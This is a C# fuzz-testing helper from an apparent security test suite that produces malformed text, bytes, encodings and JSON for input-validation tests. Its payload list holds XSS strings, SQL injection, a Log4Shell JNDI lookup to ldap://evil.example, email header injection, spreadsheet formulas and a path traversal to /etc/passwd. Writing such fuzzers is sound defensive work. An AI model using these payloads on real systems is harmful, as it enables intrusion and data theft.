using System.Text;
using System.Text.Json.Nodes;

namespace Smarketing.Functions.Tests.Security;

/// <summary>Makes bad input of good: the same for the same seed.</summary>
internal sealed class Mutation(int seed)
{
    private const int BytesMax = 8;
    private const int DepthOfDeepJson = 200;
    private const int LongLength = 6000;

    private static readonly string[] Texts =
    [
        "", " ", "\0", "a\0b", "\r\nBcc: everyone@evil.example", "\u2028\u2029\u0085", "\uFEFF", "\uFFFE", "\uFFFF", "\u202Egnp.exe", "\u200B", "a\u0301\u0301\u0301", "\U0001F4A9", "İıſß", "½²Ⅷ٣",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{contact.email}}", "{0}", "%s%n", "${jndi:ldap://evil.example}", "' or '1'='1", "=1+1", "@SUM(A1)",
        "../../etc/passwd", "a/b", "a\\b", "a#b", "a?b", "a|b", "//evil.example", "https://evil.example\\@alba.mx", "-1", "0", "1e400", "NaN", "Infinity", "2147483648", "99999999999999999999", "0x10", "1,5", "٣٤",
        "null", "true", "[]", "{}", "9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00+14:00", "2026-02-30", "2026-01-05T09:00", "P99999999999D", "-P1D", "es-419", "xx", "a@b", "a@@b.mx", "\"a b\"@alba.mx",
        "a(x)@alba.mx", "a@al/ba.mx", "a@al#ba.mx", "a@al?ba.mx", "a@al\\ba.mx", "a@xn--.mx", "a@ñandú.mx", "a@[127.0.0.1]", "a@alba..mx", ".a@alba.mx", "a@alba.mx,b@alba.mx", "A <a@alba.mx>", "аdmin@alba.mx",
    ];

    private readonly Random _random = new(seed);

    public T OneOf<T>(IReadOnlyList<T> several) => several[_random.Next(several.Count)];

    /// <summary>True once in so many times.</summary>
    public bool Once(int inTimes) => _random.Next(inTimes) == 0;

    public int Number() => _random.Next();

    public string Text(string valid) => _random.Next(8) switch
    {
        0 => new string(OneOf<char>(['a', 'é', '\u202E', ' ']), _random.Next(LongLength)),
        1 => valid + OneOf(Texts),
        2 => OneOf(Texts) + valid,
        3 => valid[.._random.Next(valid.Length + 1)],
        4 => valid.Insert(_random.Next(valid.Length + 1), ((char)_random.Next(0x20, 0xD800)).ToString()),
        5 => string.Concat(valid.Select(letter => Once(4) ? (char)(letter ^ (1 << _random.Next(7))) : letter)),
        _ => OneOf(Texts),
    };

    /// <summary>Some bytes turned, left out, doubled or put in.</summary>
    public byte[] Bytes(byte[] valid)
    {
        var bytes = valid.ToList();
        for (var times = _random.Next(1, BytesMax); times > 0; times--)
        {
            var at = _random.Next(bytes.Count + 1);
            switch (_random.Next(5))
            {
                case 0 when at < bytes.Count:
                    bytes[at] ^= (byte)(1 << _random.Next(8));
                    break;
                case 1 when at < bytes.Count:
                    bytes.RemoveRange(at, _random.Next(bytes.Count - at));
                    break;
                case 2 when at < bytes.Count:
                    bytes.InsertRange(at, bytes.GetRange(at, _random.Next(Math.Min(bytes.Count - at, LongLength))));
                    break;
                default:
                    bytes.Insert(at, (byte)_random.Next(256));
                    break;
            }
        }

        return [.. bytes];
    }

    /// <summary>The same text as other programs would write it: with a mark, in two bytes a letter, in one.</summary>
    public byte[] Encoded(string text) => _random.Next(12) switch
    {
        0 => [.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes(text)],
        1 => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(text)],
        2 => Encoding.BigEndianUnicode.GetBytes(text),
        3 => Encoding.Latin1.GetBytes(text),
        _ => Encoding.UTF8.GetBytes(text),
    };

    /// <summary>One value of the document exchanged, left out, doubled or put elsewhere.</summary>
    public JsonNode? Json(JsonNode valid)
    {
        var document = valid.DeepClone();
        var places = Places(document).ToList();
        if (places.Count == 0 || Once(40))
        {
            return Value(document);
        }

        var (parent, name, index) = OneOf(places);
        var value = parent is JsonObject members ? members[name!] : parent[index];
        switch (_random.Next(8), parent)
        {
            case (0, JsonObject from):
                from.Remove(name!);
                break;
            case (0, JsonArray from):
                from.RemoveAt(index);
                break;
            case (1, JsonObject from):
                from.Remove(name!);
                from[Text(name!)] = value;
                break;
            case (1, JsonArray to):
                to.Add(value?.DeepClone());
                break;
            default:
                Put(parent, name, index, Value(value));
                break;
        }

        return document;
    }

    private JsonNode? Value(JsonNode? valid) => _random.Next(9) switch
    {
        0 => null,
        1 => JsonValue.Create(OneOf([0, -1, 1, int.MaxValue, int.MinValue, 1000, 366])),
        2 => JsonNode.Parse(OneOf(["1e308", "1e-320", "123456789012345678901234567890", "-0.0", "0.1", "1E400"])),
        3 => JsonValue.Create(Once(2)),
        4 => new JsonArray(valid?.DeepClone(), valid?.DeepClone()),
        5 => new JsonObject { ["a"] = valid?.DeepClone() },
        6 when Once(3) => Deep(),
        _ => JsonValue.Create(Text(valid is JsonValue text && text.TryGetValue<string>(out var said) ? said : "")),
    };

    private static JsonNode Deep()
    {
        JsonNode node = new JsonArray();
        for (var depth = 0; depth < DepthOfDeepJson; depth++)
        {
            node = depth % 2 == 0 ? new JsonObject { ["d"] = node } : new JsonArray(node);
        }

        return node;
    }

    private static void Put(JsonNode parent, string? name, int index, JsonNode? value)
    {
        if (parent is JsonObject members)
        {
            members[name!] = value;
        }
        else
        {
            parent[index] = value;
        }
    }

    private static IEnumerable<(JsonNode Parent, string? Name, int Index)> Places(JsonNode? node) => node switch
    {
        JsonObject members => members.SelectMany(member => Places(member.Value).Append((members, member.Key, 0))),
        JsonArray items => items.SelectMany((item, index) => Places(item).Append((items, null, index))),
        _ => [],
    };
}
